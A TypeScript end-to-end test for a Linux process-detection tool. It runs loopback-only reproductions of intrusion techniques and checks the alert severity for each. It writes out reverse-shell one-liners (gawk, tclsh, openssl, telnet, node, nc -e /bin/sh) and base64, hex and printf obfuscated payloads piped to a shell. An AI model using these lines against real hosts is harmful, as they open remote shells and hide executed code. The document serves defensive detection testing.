// End to end: implants reproduced harmlessly from public intrusion reports (loopback only, every payload is
// `sleep`), run for real on this host, and `daemoneye detect` with the built-in pack on a live snapshot. Each
// must be reported at the severity named; each benign look-alike (near miss) must stay below high.
import {type ChildProcess, execFileSync, spawn} from 'node:child_process';
import {copyFileSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync} from 'node:fs';
import {createServer, type Server, type Socket} from 'node:net';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, removeDir, runCli, tempDir} from '../helpers/cli.js';
import {waitFor} from '../helpers/wait.js';

const dir = tempDir('daemoneye-field-');
const env = isolatedEnv(dir);
const children: ChildProcess[] = [];
const sockets: Socket[] = [];
const servers: Server[] = [];
// Unique names for the binaries copied outside the temp dir (removed in afterAll).
const tag = `${process.pid}`;
const copies = {
  defunct: `/usr/bin/defunct-${tag}`,
  etc: `/etc/3267${tag}`,
  run: `/run/haldrund-${tag}.pid`,
};
const SEVERITY_RANK: Record<string, number> = {informational: 0, low: 1, medium: 2, high: 3, critical: 4};

/** Start a long-lived process in its own session and process group (cleanup kills the whole group). */
function start(command: string, args: string[], options: {argv0?: string; cwd?: string} = {}): Promise<number> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, {detached: true, stdio: 'ignore', ...options});
    children.push(child);
    child.once('error', reject);
    child.once('spawn', () => resolve(child.pid as number));
  });
}

/** A loopback server that accepts connections and never sends anything (the "attacker" that never types). */
async function silentServer(): Promise<{port: number; connected: Promise<void>}> {
  let connected: () => void = () => undefined;
  const connection = new Promise<void>((resolve) => (connected = resolve));
  const server = createServer((socket) => {
    sockets.push(socket);
    socket.on('error', () => undefined);
    connected();
  });
  servers.push(server);
  const port = await new Promise<number>((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      resolve(typeof address === 'object' && address !== null ? address.port : 0);
    });
  });
  return {port, connected: connection};
}

const exeOf = (pid: number): string => {
  try {
    return readlinkSync(`/proc/${pid}/exe`);
  } catch {
    return '';
  }
};
const stateOf = (pid: number): string => readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ')[1]?.charAt(0) ?? '';
/** Every process below `pid` (children, grandchildren, …). */
const descendants = (pid: number): number[] => childrenOf(pid).flatMap((child) => [child, ...descendants(child)]);
const runsSleep = (pid: number): boolean => descendants(pid).some((child) => exeOf(child) === '/usr/bin/sleep');
/** Children of every thread of `pid` (a JVM forks from a thread other than the main one). */
const childrenOf = (pid: number): number[] => {
  try {
    return readdirSync(`/proc/${pid}/task`).flatMap((tid) =>
      readFileSync(`/proc/${pid}/task/${tid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean).map(Number),
    );
  } catch {
    return [];
  }
};

const pids: Record<string, number> = {};
let alerts: Alert[] = [];

beforeAll(async () => {
  // 1. Kernel-thread masquerade by any bracketed word: `cp sleep /usr/bin/defunct; exec -a '[kstrp]' defunct`.
  copyFileSync('/usr/bin/sleep', copies.defunct);
  pids.kstrp = await start(copies.defunct, ['3600'], {argv0: '[kstrp]'});

  // 2. Programs in directories that hold none: a number in /etc, a pid file in /run started as /var/run/….
  copyFileSync('/usr/bin/sleep', copies.etc);
  pids.etc = await start(copies.etc, ['3600']);
  copyFileSync('/usr/bin/sleep', copies.run);
  pids.pidFile = await start(copies.run.replace(/^\/run\//, '/var/run/'), ['3600']);

  // 3. Interpreter reverse shells to loopback listeners that never send a command.
  // gawk behind a symlink named awk, inside bash -c (the outer bash and the awk process).
  const awk = await silentServer();
  const awkLink = join(dir, 'awk');
  symlinkSync('/usr/bin/gawk', awkLink);
  pids.awkShell = await start('/bin/bash', ['-c', `${awkLink} "BEGIN {s=\\"/inet/tcp/0/127.0.0.1/${awk.port}\\"; s |& getline line; close(s)}"; sleep 3600`]);
  await awk.connected;
  pids.awk = childrenOf(pids.awkShell)[0] ?? 0;
  // Tcl socket code piped into tclsh.
  const tcl = await silentServer();
  pids.tclPipe = await start('/bin/sh', [
    '-c',
    `echo 'set s [socket 127.0.0.1 ${tcl.port}];while 42 { gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }' | tclsh; true`,
  ]);
  await tcl.connected;
  // openssl s_client piped through a shell and back out (no fifo).
  const tls = await silentServer();
  pids.opensslPipe = await start('/bin/bash', [
    '-c',
    `openssl s_client -quiet -connect 127.0.0.1:${tls.port} 2>/dev/null | /bin/sh 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${tls.port}; true`,
  ]);
  // busybox telnet piped through a shell (telnet ends at the end of its stdin: sleep keeps it open, as a terminal would).
  const telnet = await silentServer();
  pids.telnetPipe = await start('/bin/sh', [
    '-c',
    `sleep 3600 | busybox telnet 127.0.0.1 ${telnet.port} | /bin/sh | busybox telnet 127.0.0.1 ${telnet.port}; true`,
  ]);
  await telnet.connected;
  // node -e joining a socket to /bin/sh.
  const node = await silentServer();
  pids.node = await start(process.execPath, [
    '-e',
    `var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(${node.port},"127.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);})`,
  ]);
  await node.connected;
  // busybox nc -e: once connected, nc replaces itself with the shell, whose stdin and stdout are the socket.
  const nc = await silentServer();
  pids.busyboxNc = await start('/usr/bin/busybox', ['nc', '127.0.0.1', String(nc.port), '-e', '/bin/sh']);
  await nc.connected;

  // 4. Encoded payloads (each decodes to `sleep 3600`) in shell obfuscations.
  pids.braces = await start('/bin/bash', ['-c', '{echo,c2xlZXAgMzYwMAo=}|{base64,-d}|{bash,-i}']);
  pids.ifs = await start('/bin/bash', ['-c', 'echo${IFS}c2xlZXAgMzYwMAo=|base64${IFS}--decode|bash']);
  pids.xxd = await start('/bin/sh', ['-c', 'echo 736c6565702033363030 | xxd -r -p | sh']);
  pids.printf = await start('/bin/bash', ['-c', "printf '\\x73\\x6c\\x65\\x65\\x70\\x20\\x33\\x36\\x30\\x30' | sh"]);
  pids.evalDecoded = await start('/bin/bash', ['-c', 'eval "$(echo c2xlZXAgMzYwMAo= | base64 -d)"; true']);

  // 6. A /tmp implant whose main thread exits (pthread_exit) while a thread runs on.
  const source = join(dir, 'implant.c');
  writeFileSync(
    source,
    '#include <pthread.h>\n#include <unistd.h>\nstatic void *run(void *a) { (void)a; sleep(3600); return 0; }\nint main(void) { pthread_t t; pthread_create(&t, 0, run, 0); pthread_exit(0); }\n',
  );
  execFileSync('cc', ['-O2', '-pthread', '-o', join(dir, 'implant'), source]);
  pids.mainExited = await start(join(dir, 'implant'), []);
  // 7. argv[0] that is not UTF-8: `exec -a $'\xff\xfeupd' sleep 3600`.
  pids.nonUtf8 = await start('/bin/bash', ['-c', "exec -a $'\\xff\\xfeupd' /usr/bin/sleep 3600"]);

  // Near misses: benign look-alikes that must stay below high.
  const sshServer = await silentServer();
  pids.sshForward = await start('ssh', [
    '-N',
    '-L',
    '15432:127.0.0.1:5432',
    '-p',
    String(sshServer.port),
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'BatchMode=yes',
    'admin@127.0.0.1',
  ]);
  pids.awkFilterShell = await start('/bin/sh', ['-c', "sleep 3600 | awk '/inet / {print $2}'"]);
  pids.perlTitle = await start('perl', ['-e', '$0 = "mydaemon: worker [3]"; sleep 3600']);
  pids.perlBracketTitle = await start('perl', ['-e', '$0 = "amavisd (ch1-avail)"; sleep 3600']);
  // A zombie: sleep 0 exits, and its parent (now sleep 3600) never reaps it.
  pids.zombieParent = await start('/bin/sh', ['-c', 'sleep 0 & exec sleep 3600']);
  // A Jenkins build step under java, with a 100 KB classpath: the build's shell is a child of the JVM.
  const agent = join(dir, 'Agent.java');
  writeFileSync(
    agent,
    'public class Agent { public static void main(String[] a) throws Exception { new ProcessBuilder("sh", "-c", "echo building; sleep 3600").start(); Thread.sleep(3600000); } }\n',
  );
  const classpath = Array.from({length: 1600}, (_, i) => `/var/lib/jenkins/.m2/repository/org/example/lib${i}/1.0/lib${i}-1.0.jar`).join(':');
  expect(classpath.length).toBeGreaterThan(100_000);
  pids.jenkins = await start('java', ['-Xmx64m', '-Djenkins.war=/usr/share/java/jenkins.war', '-cp', classpath, agent]);
  // runc's memfd copy of itself (`/memfd:runc_cloned:/proc/self/exe`), reproduced with a copy of sleep.
  const memfdSyscall = process.arch === 'arm64' ? 279 : 319;
  pids.runcMemfd = await start('perl', [
    '-e',
    `my $name = "runc_cloned:/proc/self/exe"; my $fd = syscall(${memfdSyscall}, $name, 0); die "memfd: $!" if $fd < 0;
     open(my $in, "<:raw", "/usr/bin/sleep") or die; open(my $out, ">&=", $fd) or die; binmode $out;
     local $/; my $data = <$in>; print $out $data; $out->flush; exec {"/proc/self/fd/$fd"} "runc:[2:INIT]", "3600" or die;`,
  ]);

  // Wait until each process has become what it is meant to be.
  await waitFor(() => exeOf(pids.kstrp) === copies.defunct, 'defunct', 15_000);
  await waitFor(() => exeOf(pids.etc) === copies.etc && exeOf(pids.pidFile) === copies.run, 'no-program copies', 15_000);
  await waitFor(() => pids.awk > 0 && exeOf(pids.awk) === '/usr/bin/gawk', 'gawk', 15_000);
  for (const name of ['braces', 'ifs', 'xxd', 'printf', 'evalDecoded']) await waitFor(() => runsSleep(pids[name] as number), `${name} payload`, 15_000);
  await waitFor(() => stateOf(pids.mainExited) === 'Z', 'main thread exit', 15_000);
  await waitFor(() => exeOf(pids.nonUtf8) === '/usr/bin/sleep', 'non-UTF-8 argv[0]', 15_000);
  await waitFor(() => childrenOf(pids.zombieParent).some((pid) => stateOf(pid) === 'Z'), 'zombie', 15_000);
  await waitFor(() => childrenOf(pids.jenkins).length > 0, 'jenkins build step', 60_000);
  await waitFor(() => exeOf(pids.runcMemfd).startsWith('/memfd:runc_cloned'), 'runc memfd', 15_000);
  pids.zombie = childrenOf(pids.zombieParent).find((pid) => stateOf(pid) === 'Z') ?? 0;
  pids.jenkinsStep = childrenOf(pids.jenkins)[0] ?? 0;
  await waitFor(() => exeOf(pids.jenkinsStep).endsWith('sh') || exeOf(pids.jenkinsStep).endsWith('dash'), 'jenkins step shell', 15_000);

  const detect = await runCli(['detect', '--format', 'json'], {env, timeoutMs: 180_000});
  expect(detect.code, detect.stderr).toBe(0);
  alerts = (JSON.parse(detect.stdout) as {alerts: Alert[]}).alerts;
}, 300_000);

afterAll(() => {
  for (const socket of sockets) socket.destroy();
  for (const server of servers) server.close();
  for (const child of children) {
    try {
      process.kill(-(child.pid as number), 'SIGKILL');
    } catch {
      // already gone
    }
  }
  for (const path of Object.values(copies)) rmSync(path, {force: true});
  removeDir(dir);
});

function severityFor(ruleId: string, pid: number): string | undefined {
  return alerts.find((alert) => alert.rule_id === ruleId && alert.affected_processes.includes(pid))?.severity;
}

function highestFor(pid: number): {rule: string; severity: string} | undefined {
  return alerts
    .filter((alert) => alert.affected_processes.includes(pid))
    .map((alert) => ({rule: alert.rule_id, severity: alert.severity}))
    .sort((a, b) => (SEVERITY_RANK[b.severity] ?? 0) - (SEVERITY_RANK[a.severity] ?? 0))[0];
}

describe('field cases, run for real and detected from the CLI', () => {
  it('1. a copy of sleep named [kstrp] by exec -a is a kernel-thread masquerade (high)', () => {
    expect(severityFor('kernel-thread-masquerade', pids.kstrp)).toBe('high');
  });

  it('2. programs run from /etc and from a pid file in /run (via /var/run) are reported (medium)', () => {
    expect(severityFor('no-program-dir-execution', pids.etc)).toBe('medium');
    expect(severityFor('no-program-dir-execution', pids.pidFile)).toBe('medium');
  });

  it('3. interpreter reverse shells: gawk behind a symlink and its bash, tclsh, openssl and telnet pipelines, node, busybox nc', () => {
    for (const name of ['awkShell', 'awk', 'tclPipe', 'opensslPipe', 'telnetPipe', 'node']) {
      expect([name, severityFor('reverse-shell-command-line', pids[name] as number)]).toEqual([name, 'critical']);
    }
    // busybox nc -e has become the shell it ran, reading commands from the socket.
    expect(exeOf(pids.busyboxNc)).toMatch(/\/(dash|bash|busybox)$/);
    expect(severityFor('shell-stdio-socket', pids.busyboxNc)).toBe('high');
  });

  it('4. encoded payloads run by a shell: brace expansion, ${IFS}, xxd -r -p, printf escapes, eval "$(… | base64 -d)" (high)', () => {
    for (const name of ['braces', 'ifs', 'xxd', 'printf', 'evalDecoded']) {
      expect([name, severityFor('encoded-payload', pids[name] as number)]).toEqual([name, 'high']);
    }
  });

  it('6. a /tmp implant whose main thread exited is still seen in its temp directory (medium)', () => {
    expect(severityFor('temp-dir-execution', pids.mainExited)).toBe('medium');
  });

  it('6 and 7 from `scan`: the implant read through its live thread, argv[0] bytes kept with the documented escape', async () => {
    const scan = await runCli(['scan', '--pid', String(pids.mainExited), '--pid', String(pids.nonUtf8), '--format', 'json'], {env});
    expect(scan.code, scan.stderr).toBe(0);
    const records = JSON.parse(scan.stdout) as {pid: number; executable_path: string; command_line: string[]; platform_data: Record<string, unknown>}[];
    const implant = records.find((record) => record.pid === pids.mainExited);
    expect(implant?.executable_path).toBe(join(dir, 'implant'));
    expect(implant?.platform_data).toMatchObject({state: 'Z', live_thread_tid: expect.any(Number), cwd: expect.any(String)});
    const renamed = records.find((record) => record.pid === pids.nonUtf8);
    expect(renamed?.command_line).toEqual(['\\xff\\xfeupd', '3600']);
    expect(renamed?.platform_data).toMatchObject({bytes_escaped: true});
  });

  it('near misses stay below high: ssh -L, an awk filter, perl titles, a zombie, a Jenkins step under a JVM with a 100 KB classpath, runc memfd', () => {
    for (const name of ['sshForward', 'awkFilterShell', 'perlTitle', 'perlBracketTitle', 'zombie', 'zombieParent', 'jenkins', 'jenkinsStep', 'runcMemfd']) {
      const pid = pids[name] as number;
      expect(pid, name).toBeGreaterThan(0);
      const top = highestFor(pid);
      expect([name, (SEVERITY_RANK[top?.severity ?? 'informational'] ?? 0) < 3 ? 'below high' : top]).toEqual([name, 'below high']);
    }
  });
});
